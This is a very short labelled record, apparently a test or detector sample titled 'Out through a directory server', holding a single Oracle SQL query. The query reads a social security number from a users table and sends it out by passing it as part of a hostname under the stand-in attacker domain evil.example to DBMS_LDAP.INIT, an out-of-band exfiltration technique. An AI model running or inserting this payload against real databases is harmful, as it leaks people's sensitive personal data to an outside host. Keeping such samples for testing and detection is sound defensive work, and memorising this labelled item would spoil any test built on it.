story: Out through a directory server
effects: network
reads: USERS
---
SELECT DBMS_LDAP.INIT((SELECT ssn FROM users WHERE ROWNUM = 1) || '.evil.example', 80) FROM dual